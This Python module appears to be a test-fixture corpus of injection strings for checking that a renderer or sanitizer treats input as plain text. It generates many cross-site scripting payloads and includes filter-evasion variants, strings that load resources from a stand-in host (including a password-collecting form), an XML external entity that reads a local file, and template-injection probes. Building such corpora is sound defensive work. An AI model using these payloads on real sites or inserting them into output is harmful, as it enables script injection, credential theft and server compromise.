"""Strings that would run a script, or change the page, were they anything but text."""

_SCRIPTS = ("alert(1)", "alert`1`", "top.location='//x.example'")
_HANDLERS = (
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onbegin",
    "onanimationstart",
)
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video",
    "audio src",
    "math",
    "iframe",
)
_BREAKS = ("", '"', "'", '">', "'>", "</b>", "</p></td></tr></table>", "</title>", "</style>", "-->", "]]>")
_SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "vbscript:", "data:text/html,", "\x01javascript:")
_OTHERS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//x.example/x.js>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script\x00>alert(1)</script>",
    "<script\n>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<style>*{display:none}</style>",
    "<style>@import'//x.example/x.css'</style>",
    '<div style="background:url(//x.example/x)">',
    '<p style="width:expression(alert(1))">',
    "<link rel=stylesheet href=//x.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=//x.example">',
    "<base href=//x.example/>",
    "<form action=//x.example><input name=password>",
    "<object data=//x.example/x.swf>",
    "<embed src=//x.example/x.swf>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY x SYSTEM 'file:///x'>]>&x;",
    "{{ 7 * 7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ self.__init__.__globals__ }}",
    "{# #}{{ config }}",
    "$\\href{javascript:alert(1)}{x}$",
    "\\href{javascript:alert(1)}{x}",
    "\\url{javascript:alert(1)}",
    "$\\text{<script>alert(1)</script>}$",
    "$x_{<img src=x onerror=alert(1)>}$",
    "$x^{<svg onload=alert(1)>}$",
    "\\textbf{<b onclick=alert(1)>}",
)

STRINGS = (
    *(
        f"{end}<{tag} {handler}={_SCRIPTS[0]}>"
        for tag in _TAGS
        for handler in _HANDLERS[:4]
        for end in _BREAKS[:2]
    ),
    *(
        f"{end}<svg/{handler}={script}//"
        for handler in _HANDLERS
        for script in _SCRIPTS
        for end in _BREAKS[3:5]
    ),
    *(f"{end}<script>alert(1)</script>" for end in _BREAKS),
    *(f"{quote} {handler}={quote}alert(1){quote} x={quote}" for quote in "\"'`" for handler in _HANDLERS),
    *(f"<a href={quote}{scheme}alert(1){quote}>x</a>" for scheme in _SCHEMES for quote in ("", '"', "'")),
    *(f"{scheme}alert(1)" for scheme in _SCHEMES),
    *_OTHERS,
)
